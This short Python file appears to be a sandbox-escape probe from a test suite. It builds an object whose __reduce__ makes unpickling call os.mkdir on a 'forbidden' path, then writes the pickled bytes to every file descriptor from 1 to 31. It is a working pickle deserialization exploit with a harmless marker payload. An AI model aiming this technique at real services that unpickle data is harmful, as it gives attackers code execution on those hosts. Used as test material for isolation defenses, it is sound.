# Tries: an object whose pickle runs a program at whoever unpickles it.
import os
import pickle


class Command:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def run(args, context):
    data = pickle.dumps(Command(args["forbidden"]))
    for descriptor in range(1, 32):
        try:
            os.write(descriptor, data)
        except OSError:
            continue
    return Command(args["forbidden"])
